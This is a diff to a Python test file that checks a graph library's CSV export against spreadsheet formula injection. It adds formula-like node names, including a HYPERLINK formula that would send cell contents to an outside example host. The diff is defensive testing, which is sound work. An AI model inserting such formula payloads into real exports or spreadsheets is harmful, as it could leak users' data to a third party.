@@ -27,6 +27,10 @@ WEIRD = [
     "a\r\nb\tc",
     "source",
     "1",
+    "=1+1",
+    "-log p",
+    "'@mail",
+    "\t+",
 ]
 ENDINGS = {"edges": ".edges.csv", "adjacency": ".csv", "graphml": ".graphml", "json": ".json"}
 
@@ -52,6 +56,17 @@ def what_survives(graph: CausalGraph, file_format: str) -> CausalGraph:
     if file_format == "adjacency" or not graph.adjacency.any():
         return CausalGraph(graph.adjacency, graph.names)
     return CausalGraph(graph.adjacency, graph.names, np.where(graph.adjacency, graph.scores, 0.0))
+
+
+@pytest.mark.parametrize("file_format", ["edges", "adjacency"])
+def test_no_name_becomes_a_formula_of_a_spreadsheet(tmp_path, file_format):
+    graph = CausalGraph([[0, 1], [0, 0]], ['=HYPERLINK("http://example.org?"&A1)', "@SUM(A1:A9)"])
+    path = tmp_path / f"graph{ENDINGS[file_format]}"
+    write_graph(graph, path)
+    with path.open(encoding="utf-8", newline="") as lines:
+        cells = [cell for row in csv.reader(lines) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n"))]
+    assert read_graph(path) == graph
 
 
 @pytest.mark.parametrize("file_format", ENDINGS)
